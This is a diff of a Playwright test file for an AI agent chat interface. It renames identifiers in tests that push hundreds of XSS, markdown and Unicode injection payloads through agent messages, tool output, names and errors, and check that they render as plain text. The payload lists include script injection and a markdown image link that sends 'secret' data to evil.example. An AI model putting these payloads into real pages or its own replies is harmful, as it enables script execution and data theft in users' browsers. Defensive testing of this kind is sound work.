@@ -1,4 +1,4 @@
-"""Hostile words on the page: wherever a model, a tool, a file or an error can put them, they are words and nothing else."""
+"""Injection attacks on the page: text of models, tools, files and errors is shown as text and never executed."""
 
 import re
 from collections.abc import AsyncGenerator
@@ -10,9 +10,7 @@ from playwright.async_api import Route
 
 from retinue.testing.replies import http_error, text_reply, tool_call_reply
 
-OUT = "https://evil.example"
-
-RAW = [
+HTML_PAYLOADS = [
     "<script>alert(1)</script>",
     "<script src='https://evil.example/x.js'></script>",
     "<ScRiPt>alert(1)</sCrIpT>",
@@ -132,7 +130,7 @@ RAW = [
     "'-alert(1)-'",
     "`-alert(1)-`",
 ]
-WRITTEN = [
+MARKDOWN_PAYLOADS = [
     "![x](https://evil.example/pixel.png)",
     '![x](https://evil.example/pixel.png?data=secret "title")',
     '![x](x"onerror="alert(1))',
@@ -206,8 +204,8 @@ SCHEMES = [
     "jar:https://evil.example!/x",
     "feed:javascript:alert(1)",
 ]
-FORMS = ["[x]({})", "![x]({})", "<{}>", "[x][z]\n\n[z]: {}"]
-TURNED = [
+LINK_FORMS = ["[x]({})", "![x]({})", "<{}>", "[x][z]\n\n[z]: {}"]
+UNICODE_PAYLOADS = [
     "\u202e<tpircs>)1(trela",
     "\u2066[x](javascript:alert(1))\u2069",
     "[exa\u200bmple.org](https://evil.example/)",
@@ -224,69 +222,75 @@ TURNED = [
     "[x](\u0130avascript:alert(1))",
     "\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007",
 ]
-PAYLOADS = [*RAW, *WRITTEN, *(form.format(scheme) for scheme in SCHEMES for form in FORMS), *TURNED]
+PAYLOADS = [
+    *HTML_PAYLOADS,
+    *MARKDOWN_PAYLOADS,
+    *(form.format(scheme) for scheme in SCHEMES for form in LINK_FORMS),
+    *UNICODE_PAYLOADS,
+]
 
 # fmt: off
-RENDERED = [
+MARKDOWN_TAGS = [
     "p", "br", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6",
     "table", "thead", "tbody", "tr", "th", "td", "hr", "a", "span",
 ]
 # fmt: on
-TAGS = {*RENDERED, "div", "button"}
-ATTRIBUTES = {"href", "class", "target", "rel", "align", "start", "type", "data-test"}
-STEP = """async (log, pages) => {
-    const drawn = () => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)));
-    for (const each of log.querySelectorAll("details")) each.open = true;
-    await drawn();
+ALLOWED_TAGS = {*MARKDOWN_TAGS, "div", "button"}
+ALLOWED_ATTRIBUTES = {"href", "class", "target", "rel", "align", "start", "type", "data-test"}
+SCROLL = """async (log, pages) => {
+    const nextFrame = () => new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+    for (const details of log.querySelectorAll("details")) details.open = true;
+    await nextFrame();
     log.scrollTop += pages * log.clientHeight;
-    await drawn();
+    await nextFrame();
     return log.scrollTop;
 }"""
-INSIDE = """all => all.map(each => ({
-    tag: each.tagName.toLowerCase(),
-    attributes: Object.fromEntries([...each.attributes].map(one => [one.name, one.value])),
-    text: each.textContent,
+DESCRIBE_ELEMENTS = """elements => elements.map(element => ({
+    tag: element.tagName.toLowerCase(),
+    attributes: Object.fromEntries([...element.attributes].map(attribute => [attribute.name, attribute.value])),
+    text: element.textContent,
 }))"""
 
 
-def test_there_are_enough_of_them():
+def test_there_are_at_least_200_payloads():
     assert len(set(PAYLOADS)) >= 200
 
 
-def of(*payloads: str) -> str:
-    """A text of several, each between words that show whether it swallowed what follows."""
+def join_payloads(*payloads: str) -> str:
+    """Join texts with blank lines between them."""
     return "\n\n".join(payloads)
 
 
-async def seen_through(window: BrowserPage) -> set[str]:
-    """Looks at everything from the end to the beginning, with every fold open, and at every link. Gives the entries
-    that were shown."""
+async def scroll_through_and_check(window: BrowserPage) -> set[str]:
+    """Scroll from the end to the beginning with every fold open, check every element and link, and return the ids of the entries shown."""
     log, links, shown = window("conversation"), 0, set[str]()
-    below = await log.evaluate(STEP, 1e9)
-    while below or not await log.locator(".earlier").filter(has_text="Begun").count():
+    scroll_top = await log.evaluate(SCROLL, 1e9)
+    while scroll_top or not await log.locator(".earlier").filter(has_text="Begun").count():
         shown |= set(
-            await log.locator("[data-entry]").evaluate_all("all => all.map(each => each.dataset.entry)")
+            await log.locator("[data-entry]").evaluate_all(
+                "elements => elements.map(element => element.dataset.entry)"
+            )
         )
-        for each in await log.locator(".prose *").evaluate_all(INSIDE):
-            assert each["tag"] in TAGS, each
-            assert set(each["attributes"]) <= ATTRIBUTES, each
-            assert each["tag"] != "button" or each["attributes"]["class"] == "copy-code", each
-            if each["tag"] == "a":
+        for element in await log.locator(".prose *").evaluate_all(DESCRIBE_ELEMENTS):
+            assert element["tag"] in ALLOWED_TAGS, element
+            assert set(element["attributes"]) <= ALLOWED_ATTRIBUTES, element
+            assert element["tag"] != "button" or element["attributes"]["class"] == "copy-code", element
+            if element["tag"] == "a":
                 links += 1
-                leads_where_it_says(each["attributes"]["href"], each["text"], each["attributes"])
-        below = await log.evaluate(STEP, -0.5)
+                check_link_target(element["attributes"]["href"], element["text"], element["attributes"])
+        scroll_top = await log.evaluate(SCROLL, -0.5)
     assert links
     return shown
 
 
-def leads_where_it_says(href: str, text: str, attributes: dict[str, str]) -> None:
-    there = urlsplit(href)
-    assert there.scheme in ("http", "https", "mailto"), href
-    assert (there.hostname or there.path) in text, (href, text)
+def check_link_target(href: str, text: str, attributes: dict[str, str]) -> None:
+    parts = urlsplit(href)
+    assert parts.scheme in ("http", "https", "mailto"), href
+    assert (parts.hostname or parts.path) in text, (href, text)
     assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer")
 
 
-async def test_words_of_models_and_tools_are_words(daemon: PageDaemon):
+async def test_payloads_in_messages_and_tool_results_are_shown_as_text(daemon: PageDaemon):
     """Shows: U06, U07."""
     turns = [tool_call_reply(("echo", {"words": payload}), text=payload, piece=64) for payload in PAYLOADS]
     task = daemon.script_task("Say everything bad.", *turns, text_reply("That was all of it."))
@@ -295,25 +299,25 @@ async def test_words_of_models_and_tools_are_words(daemon: PageDaemon):
         await window.open_session(session["session_id"])
         await window.send_message(task)
         await window.expect(window("said-agent").locator(".prose").last).to_have_text("That was all of it.")
-        shown = await seen_through(window)
+        shown = await scroll_through_and_check(window)
         await window.expect("approvals").to_have_count(0)
         assert window.page.url.startswith(window.base)
         assert len(window.page.context.pages) == 1
     entries = await daemon.call_api("GET", f"/sessions/{session['session_id']}/entries")
-    assert sum(each["kind"] == "tool_result" and each["ok"] for each in entries) == len(PAYLOADS)
-    drawn = [
-        each
-        for each in entries
-        if each["kind"] == "tool_call" or (each["kind"] == "message" and each["text"].strip())
+    assert sum(entry["kind"] == "tool_result" and entry["ok"] for entry in entries) == len(PAYLOADS)
+    displayed = [
+        entry
+        for entry in entries
+        if entry["kind"] == "tool_call" or (entry["kind"] == "message" and entry["text"].strip())
     ]
-    assert {each["id"] for each in drawn} == shown
+    assert {entry["id"] for entry in displayed} == shown
 
 
 @pytest.fixture(scope="module")
 async def daemon(module_daemon: OpenPageDaemon) -> AsyncGenerator[PageDaemon]:
-    """Its tool gives back what it is given, and an agent's own file is hostile as well."""
+    """A daemon with a tool that returns its argument, and an agent whose file is hostile."""
     async with module_daemon() as daemon:
-        (daemon.folder / "echoes.py").write_text(ECHO)
+        (daemon.folder / "echoes.py").write_text(ECHO_SOURCE)
         daemon.write_config(tools=["held:hold", "held:tell", "echoes:echo"], limits={"identical_calls": 1000})
         daemon.write_agent(
             "mimic",
@@ -325,21 +329,21 @@ async def daemon(module_daemon: OpenPageDaemon) -> AsyncGenerator[PageDaemon]:
         yield daemon
 
 
-ECHO = '''
+ECHO_SOURCE = '''
 from retinue import tool
 
 @tool(effect="read")
 async def echo(words: str) -> str:
-    """Gives back what it is given."""
+    """Returns its argument."""
     return words
 '''
 NAMES = [each for each in PAYLOADS if each.isprintable() and len(each) < 200][::14]
 
 
-async def test_names_of_sessions_and_agents_are_words(daemon: PageDaemon):
+async def test_payloads_in_names_of_sessions_and_agents_are_shown_as_text(daemon: PageDaemon):
     """Shows: U06."""
     session = await daemon.create_session("mimic")
-    where = f"/sessions/{session['session_id']}"
+    path = f"/sessions/{session['session_id']}"
     async with daemon.open_page() as window:
         await window.expect("pick-agent", agent="mimic").to_have_count(1)
         await window("new-session").click()
@@ -348,7 +352,7 @@ async def test_names_of_sessions_and_agents_are_words(daemon: PageDaemon):
         await window.open_session(session["session_id"])
         assert len(NAMES) > 10
         for name in NAMES:
-            await daemon.call_api("PATCH", where, {"name": name})
+            await daemon.call_api("PATCH", path, {"name": name})
             await window.expect("title").to_have_text(name)
             title = window("session-row", session=session["session_id"]).locator(".session-title")
             await window.expect(title).to_have_text(name)
@@ -362,31 +366,31 @@ async def test_names_of_sessions_and_agents_are_words(daemon: PageDaemon):
         await window.expect(window("toast").last).to_contain_text(NAMES[-1])
 
 
-async def test_errors_are_words(daemon: PageDaemon):
+async def test_payloads_in_errors_are_shown_as_text(daemon: PageDaemon):
     """Shows: U06."""
     session = await daemon.create_session()
-    chosen = RAW[:60:6]
+    payloads = HTML_PAYLOADS[:60:6]
     async with daemon.open_page() as window:
         await window.open_session(session["session_id"])
-        for i, payload in enumerate(chosen):
-            task = daemon.script_task(f"Fail in way {i}.", http_error(400, f"no: {payload}"))
+        for number, payload in enumerate(payloads):
+            task = daemon.script_task(f"Fail in way {number}.", http_error(400, f"no: {payload}"))
             await window.send_message(task)
-            await window.expect("run-ended", status="failed").to_have_count(i + 1)
+            await window.expect("run-ended", status="failed").to_have_count(number + 1)
             await window.expect(window("run-ended").last).to_contain_text(payload.split("\n")[0][:20])
         await window("open-runs").click()
         await window.expect(window("run").first).to_be_visible()
 
 
-async def test_files_and_calls_are_words_in_questions_and_folds(daemon: PageDaemon):
+async def test_payloads_in_file_names_and_arguments_are_shown_as_text_in_approvals(daemon: PageDaemon):
     """Shows: U06, U09."""
     session = await daemon.create_session()
     names = ["<img src=x onerror=alert(1)>.txt", "[x](javascript:alert(1)).md", "'\"><svg onload=alert(1)>"]
     async with daemon.open_page() as window:
         await window.open_session(session["session_id"])
-        for i, name in enumerate(names):
+        for number, name in enumerate(names):
             task = daemon.script_task(
-                f"Write name {i}.",
-                tool_call_reply(("write", {"path": name, "content": of(*RAW[:20])})),
+                f"Write name {number}.",
+                tool_call_reply(("write", {"path": name, "content": join_payloads(*HTML_PAYLOADS[:20])})),
                 tool_call_reply(("glob", {"pattern": "**/*"})),
                 text_reply(f"`{name}`"),
             )
@@ -395,9 +399,9 @@ async def test_files_and_calls_are_words_in_questions_and_folds(daemon: PageDaem
             await window.expect(
                 window("approvals").locator("img, script, iframe, a[href], form, style")
             ).to_have_count(0)
-            await window("deny" if i else "allow").click()
+            await window("deny" if number else "allow").click()
             await window.expect("approvals").to_have_count(0)
-            await window.expect(window("said-agent").locator(".prose")).to_have_count(i + 1)
+            await window.expect(window("said-agent").locator(".prose")).to_have_count(number + 1)
         (daemon.folder / names[0]).unlink(missing_ok=True)
 
 
@@ -411,33 +415,33 @@ async def test_files_and_calls_are_words_in_questions_and_folds(daemon: PageDaem
         "#javascript:alert(1)",
     ],
 )
-async def test_addresses_are_words(daemon: PageDaemon, hash: str):  # noqa: A002
+async def test_a_hostile_address_does_not_break_the_page(daemon: PageDaemon, hash: str):  # noqa: A002
     async with daemon.open_page() as window:
-        await window.page.evaluate("where => { location.hash = where }", hash)
+        await window.page.evaluate("hash => { location.hash = hash }", hash)
         await window.expect(window.page.locator("main")).to_be_visible()
         await window.expect("sidebar").to_be_visible()
         await window.page.reload()
         await window.expect("sidebar").to_be_visible()
 
 
-async def test_nobody_can_frame_the_page(daemon: PageDaemon):
+async def test_the_page_cannot_be_framed(daemon: PageDaemon):
     """Shows: U08."""
     link = (await daemon.call_api("POST", "/links"))["url"]
     context = await daemon.browser.new_context()
     page = await context.new_page()
-    entered = await page.goto(link)
-    assert entered is not None
-    headers = entered.headers
+    response = await page.goto(link)
+    assert response is not None
+    headers = response.headers
     assert "frame-ancestors 'none'" in headers["content-security-policy"]
     assert "default-src 'none'" in headers["content-security-policy"]
     assert not re.search("unsafe|http:|https:|\\*", headers["content-security-policy"])
     assert headers["x-frame-options"] == "DENY"
     frames = f"<iframe src='{daemon.base}/' id=inner></iframe>"
 
-    async def framed(route: Route) -> None:
+    async def serve_frame(route: Route) -> None:
         await route.fulfill(body=frames, content_type="text/html")
 
-    await page.route("http://framer.example/", framed)
+    await page.route("http://framer.example/", serve_frame)
     await page.goto("http://framer.example/")
     inner = page.frames[1]
     assert not inner.url.startswith(daemon.base)
